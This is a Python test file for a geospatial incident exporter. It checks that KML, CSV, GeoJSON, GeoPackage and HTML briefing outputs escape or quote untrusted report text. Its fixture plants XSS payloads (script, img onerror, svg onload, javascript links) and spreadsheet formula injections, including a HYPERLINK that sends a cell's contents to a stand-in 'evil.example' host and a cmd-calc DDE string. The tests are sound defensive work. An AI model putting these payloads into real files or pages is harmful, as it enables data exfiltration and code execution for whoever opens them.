"""Report text is untrusted: exports must not hand it to Google Earth as markup or to a spreadsheet as a formula."""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET
from dataclasses import replace

import pandas as pd
import pyogrio

from geomap.io import export_incidents
from geomap.records import Incident

HOSTILE_SENTENCE = 'Shelling hit Ganja <img src=x onerror=alert(1)> <script>alert("kml")</script> at night.'


def hostile(incidents: list[Incident], *, sentence: str = HOSTILE_SENTENCE) -> list[Incident]:
    """The Ganja shelling with markup and formulas planted in every piece of report-derived text."""
    incident = incidents[0]
    (mention,) = incident.places
    return [replace(
        incident, claimant="=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") <b>bold</b>",
        denied_by=("@SUM(1+1)*cmd|' /C calc'!A0", "<i>Armenia</i>"),
        sources=(replace(incident.sources[0], sentence=sentence,
                         publisher="+Reuters <a href=javascript:alert(2)>x</a>"),),
        places=(replace(mention, place=replace(mention.place, name="-Ganja<svg onload=alert(3)>")),))]


def test_kml_description_carries_report_text_as_escaped_text_not_markup(incidents, tmp_path):
    path = export_incidents(hostile(incidents), tmp_path / "hostile.kml", fmt="kml")
    description = pyogrio.read_dataframe(path).loc[0, "description"]
    root = ET.parse(path).getroot()
    from_xml = [e.text for e in root.iter() if e.tag.endswith("description")]
    for text in (description, *from_xml):  # what Google Earth renders as HTML after unescaping the XML
        assert "&lt;img src=x onerror=alert(1)&gt;" in text and "&lt;script&gt;" in text
        assert "<img" not in text and "<script" not in text and "<svg" not in text and "<a href" not in text
        assert "&lt;b&gt;bold&lt;/b&gt;" in text and "&lt;i&gt;Armenia&lt;/i&gt;" in text
        assert "<br>" in text  # lines are joined as HTML line breaks


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_quoted(incidents, tmp_path):
    rows = hostile(incidents, sentence="=1+1 killed")
    path = export_incidents(rows, tmp_path / "hostile.csv", fmt="csv")
    row = pd.read_csv(path, keep_default_na=False, dtype=str).iloc[0]
    assert row["notes"] == "'=1+1 killed"
    assert row["claimant"].startswith("'=HYPERLINK(")
    assert row["denied_by"].startswith("'@SUM(1+1)")
    assert row["source"].startswith("'+Reuters")
    assert row["location"].startswith("'-Ganja")
    # numbers and ISO dates are written as they are
    assert (row["event_date"], row["year"], row["latitude"], row["fatalities"]) == ("2020-10-11", "2020", "40.68157", "9")


def test_csv_keeps_negative_coordinates_as_numbers(incidents, tmp_path):
    (mention,) = incidents[0].places
    west = replace(incidents[0], places=(replace(mention, place=replace(mention.place, lat=-12.5, lon=-77.03)),))
    table = pd.read_csv(export_incidents([west], tmp_path / "west.csv", fmt="csv"))
    assert (table.loc[0, "latitude"], table.loc[0, "longitude"]) == (-12.5, -77.03)


MARKUP = re.compile(r"<\s*[a-zA-Z/!?]")  # the start of a tag, a comment, CDATA or a processing instruction


def strings(value) -> list[str]:
    """Every string in a JSON value, keys included."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for key, item in value.items() for s in (key, *strings(item))]
    if isinstance(value, list):
        return [s for item in value for s in strings(item)]
    return []


def test_geojson_read_back_holds_the_hostile_text_but_no_markup(incidents, tmp_path):
    path = export_incidents(hostile(incidents), tmp_path / "hostile.geojson", fmt="geojson")
    found = strings(json.loads(path.read_text(encoding="utf-8")))
    assert any("&lt;script&gt;alert(\"kml\")&lt;/script&gt;" in s for s in found)  # kept, as inert text
    assert [s for s in found if MARKUP.search(s)] == []
    table = pyogrio.read_dataframe(path)  # GDAL reads it as GeoJSON
    cells = [v for column in table.columns if column != "geometry" for v in table[column] if isinstance(v, str)]
    assert cells and [v for v in cells if MARKUP.search(v)] == []


def test_geopackage_layers_read_back_hold_no_markup(incidents, tmp_path):
    path = export_incidents(hostile(incidents), tmp_path / "hostile.gpkg", fmt="gpkg")
    layers = [name for name, _ in pyogrio.list_layers(path)]
    assert len(layers) >= 2
    cells = []
    for layer in layers:
        table = pyogrio.read_dataframe(path, layer=layer)
        cells += [v for column in table.columns if column != "geometry" for v in table[column] if isinstance(v, str)]
    assert any("&lt;svg onload=alert(3)&gt;" in v for v in cells)
    assert [v for v in cells if MARKUP.search(v)] == []


def test_csv_cells_hold_no_markup(incidents, tmp_path):
    path = export_incidents(hostile(incidents), tmp_path / "hostile.csv", fmt="csv")
    table = pd.read_csv(path, keep_default_na=False, dtype=str)
    cells = [v for column in table.columns for v in table[column]]
    assert any("&lt;img src=x onerror=alert(1)&gt;" in v for v in cells)
    assert [v for v in cells if MARKUP.search(v)] == []


def test_kml_extended_data_is_escaped_text_and_no_cdata_holds_markup(incidents, tmp_path):
    path = export_incidents(hostile(incidents), tmp_path / "hostile.kml", fmt="kml")
    raw = path.read_text(encoding="utf-8")
    cdata = re.findall(r"<!\[CDATA\[(.*?)\]\]>", raw, flags=re.S)  # GDAL wraps text holding & in CDATA
    assert cdata and all(not re.search(r"<(?!br>)\s*[a-zA-Z/!?]", section) for section in cdata)
    root = ET.parse(path).getroot()
    texts = [e.text for e in root.iter() if e.text and e.text.strip()]
    data = [e.text or "" for e in root.iter() if e.tag.endswith("SimpleData") or e.tag.endswith("value")]
    assert any("&lt;i&gt;Armenia&lt;/i&gt;" in text for text in data)  # ExtendedData holds the text, inert
    # what a renderer sees after XML unescaping: no tag from the report, in ExtendedData or anywhere else
    assert [t for t in texts if MARKUP.search(t) and "<br>" not in t] == []
    assert all(not re.search(r"<(?!br>)\s*[a-zA-Z/]", t) for t in texts)
    table = pyogrio.read_dataframe(path)  # GDAL reads it back
    assert [v for c in table.columns if c != "geometry" for v in table[c]
            if isinstance(v, str) and re.search(r"<(?!br>)\s*[a-zA-Z/]", v)] == []


def test_briefing_page_carries_the_hostile_text_only_escaped(incidents, tmp_path):
    from geomap.io.briefing import write_briefing

    page = write_briefing(hostile(incidents), tmp_path / "hostile", formats=("html",))["html"].read_text(encoding="utf-8")
    for tag in ("<img src=x", "<script>alert(", "<svg onload", "<a href=javascript", "<b>bold", "<i>Armenia"):
        assert tag not in page
    for plotly_escaped in ("\\u003cimg src=x", "\\u003cscript\\u003ealert(", "\\u003csvg onload"):
        assert plotly_escaped not in page  # nor as JSON for the map's hover text, which plotly renders as HTML
    assert "&lt;script&gt;alert(&quot;kml&quot;)&lt;/script&gt;" in page
